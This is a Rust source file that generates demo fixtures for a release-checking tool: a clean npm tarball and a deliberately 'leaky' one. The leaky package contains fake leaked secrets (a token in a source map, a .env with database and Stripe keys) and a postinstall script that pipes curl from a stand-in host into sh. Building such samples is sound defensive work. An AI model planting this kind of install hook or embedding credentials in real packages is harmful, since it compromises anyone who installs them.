//! The demo artifacts of `assets/demo/`: a clean release, the next one that leaks, and the
//! clean one's release manifest.
//!
//! Shared by `examples/make_demo.rs`, which writes them into `assets/demo/`, and
//! `tests/demo.rs`, which writes them into a temp dir and checks that the committed files are
//! byte for byte what this writes (fixed mtimes, no gzip timestamp), so they cannot go stale:
//! - `demo-clean-1.0.0.tgz`: a small CLI with a `files` allowlist and nothing else.
//! - `demo-leaky-1.1.0.tgz`: the same CLI, released the way the 2026-03-31 leak happened:
//!   no `files` allowlist, `dist/cli.js.map` whose `sourcesContent` embeds the original
//!   TypeScript (with a token in it), a `.env`, a new dependency and a `postinstall` script.
//! - `demo-clean-1.0.0.manifest.json`: what `shipcheck manifest` writes for the clean one.

use std::fmt::Write as _;
use std::io::Write as _;
use std::path::Path;

use flate2::{Compression, GzBuilder};

/// Every file [`write_demo`] writes.
pub const FILES: [&str; 3] = [
    "demo-clean-1.0.0.tgz",
    "demo-leaky-1.1.0.tgz",
    "demo-clean-1.0.0.manifest.json",
];

/// npm's fixed tarball mtime (1985-10-26T08:15:00Z), so output never depends on the clock.
const MTIME: u64 = 499_162_500;

fn tarball(path: &Path, files: &[(String, Vec<u8>)]) -> std::io::Result<()> {
    let gz = GzBuilder::new()
        .mtime(0)
        .write(Vec::new(), Compression::best());
    let mut tar = tar::Builder::new(gz);
    for (name, data) in files {
        let mut h = tar::Header::new_ustar();
        h.set_size(data.len() as u64);
        h.set_mode(if name.ends_with(".sh") { 0o755 } else { 0o644 });
        h.set_mtime(MTIME);
        h.set_entry_type(tar::EntryType::Regular);
        tar.append_data(&mut h, format!("package/{name}"), data.as_slice())?;
    }
    let bytes = tar.into_inner()?.finish()?;
    std::fs::File::create(path)?.write_all(&bytes)
}

/// Plausible TypeScript for module `i`, so the embedded sources look like a real code base.
fn module_source(dir: &str, name: &str, i: usize) -> String {
    let mut s = format!("// {dir}/{name}.ts\nimport {{ Context }} from '../core/context';\n\n");
    for f in 0..12 {
        let _ = write!(
            s,
            "export async function {name}Step{f}(ctx: Context, input: string): Promise<string> {{\n  \
             const started = Date.now();\n  ctx.log.debug('{name} step {f}', {{ input }});\n  \
             if (input.length > {limit}) {{\n    throw new Error('{name}: input too long');\n  }}\n  \
             return `${{input}}-{i}-{f}-${{Date.now() - started}}`;\n}}\n\n",
            limit = 64 + i * 7 + f
        );
    }
    s
}

/// Writes [`FILES`] into `out`.
pub fn write_demo(out: &Path) -> std::io::Result<()> {
    std::fs::create_dir_all(out)?;
    let cli_js = b"#!/usr/bin/env node\n\"use strict\";var e=require(\"./core\");e.main(process.argv.slice(2));\n//# sourceMappingURL=cli.js.map\n".to_vec();
    let core_js =
        b"\"use strict\";exports.main=function(a){console.log(\"demo\",a.join(\" \"))};\n".to_vec();
    let readme = b"# demo-cli\n\nA tiny CLI used to demonstrate shipcheck.\n".to_vec();
    let license = b"MIT License\n\nCopyright (c) 2026 Demo Authors\n".to_vec();

    let clean_pkg = br#"{
  "name": "demo-cli",
  "version": "1.0.0",
  "description": "A tiny CLI used to demonstrate shipcheck",
  "bin": { "demo": "dist/cli.js" },
  "files": ["dist/cli.js", "dist/core.js"],
  "dependencies": { "left-pad": "^1.3.0" },
  "license": "MIT"
}
"#
    .to_vec();
    let clean_cli = b"#!/usr/bin/env node\n\"use strict\";var e=require(\"./core\");e.main(process.argv.slice(2));\n".to_vec();
    tarball(
        &out.join("demo-clean-1.0.0.tgz"),
        &[
            ("package.json".into(), clean_pkg),
            ("README.md".into(), readme.clone()),
            ("LICENSE".into(), license.clone()),
            ("dist/cli.js".into(), clean_cli),
            ("dist/core.js".into(), core_js.clone()),
        ],
    )?;

    // The leak: every original source, embedded in the shipped map.
    let mut sources = Vec::new();
    let mut contents = Vec::new();
    for (d, dir) in [
        "src/commands",
        "src/core",
        "src/tools",
        "src/services/api",
        "src/utils",
    ]
    .iter()
    .enumerate()
    {
        for m in 0..8 {
            let name = format!("module{d}{m}");
            sources.push(format!("../{dir}/{name}.ts"));
            contents.push(module_source(dir, &name, d * 8 + m));
        }
    }
    sources.push("../src/auth/token.ts".into());
    contents.push(
        "// src/auth/token.ts\n// TODO: move to the vault before release\nexport const INTERNAL_DEPLOY_TOKEN =\n  \
         'ghp_R8x2Lq9Vt4Wm7Zc1Nb6Jd3Hs5Kf0Gy2Pa8Qe';\n\nexport function authHeader(): string {\n  \
         return `token ${INTERNAL_DEPLOY_TOKEN}`;\n}\n"
            .into(),
    );
    sources.push("webpack/runtime/define property getters".into());
    contents.push("__webpack_require__.d = (exports, definition) => {};\n".into());
    let map = serde_json::json!({
        "version": 3,
        "file": "cli.js",
        "sources": sources,
        "sourcesContent": contents,
        "names": [],
        "mappings": "AAAA;AACA",
    });
    let leaky_pkg = br#"{
  "name": "demo-cli",
  "version": "1.1.0",
  "description": "A tiny CLI used to demonstrate shipcheck",
  "bin": { "demo": "dist/cli.js" },
  "scripts": { "postinstall": "node scripts/setup.js" },
  "dependencies": { "left-pad": "^1.3.0", "plain-crypto-js": "^4.2.1" },
  "license": "MIT"
}
"#
    .to_vec();
    let env = b"# local settings\nDATABASE_URL=postgres://admin:hunter2-prod@db.internal.example:5432/app\nSTRIPE_SECRET_KEY=sk_live_51Hx7Lq2Vt9Wm4Zc8Nb1Jd6Hs3Kf\n".to_vec();
    let setup = b"const { execSync } = require('child_process');\nexecSync('curl -s https://sfrclak.example/6202033 | sh');\n".to_vec();
    tarball(
        &out.join("demo-leaky-1.1.0.tgz"),
        &[
            ("package.json".into(), leaky_pkg),
            ("README.md".into(), readme),
            ("LICENSE".into(), license),
            (".env".into(), env),
            ("dist/cli.js".into(), cli_js),
            (
                "dist/cli.js.map".into(),
                serde_json::to_vec(&map).map_err(std::io::Error::other)?,
            ),
            ("dist/core.js".into(), core_js),
            ("scripts/setup.js".into(), setup),
        ],
    )?;
    manifest(
        out,
        "demo-clean-1.0.0.tgz",
        "demo-clean-1.0.0.manifest.json",
    )
}

/// `shipcheck manifest assets/demo/NAME -o assets/demo/MANIFEST`, as the library writes it,
/// with the artifact named by its path in the repository wherever `out` is.
fn manifest(out: &Path, name: &str, manifest: &str) -> std::io::Result<()> {
    let file = out.join(name);
    let spec = file
        .to_str()
        .ok_or_else(|| std::io::Error::other("non-UTF-8 path"))?;
    let artifact = shipcheck::artifact::open(spec, &shipcheck::artifact::Options::default(), None)
        .map_err(|e| std::io::Error::other(format!("{e:#}")))?;
    let mut m = shipcheck::manifest::Manifest::of(&artifact);
    m.artifact.path = format!("assets/demo/{name}");
    let text = shipcheck::json::to_string_pretty(&m).map_err(std::io::Error::other)? + "\n";
    std::fs::write(out.join(manifest), text)
}
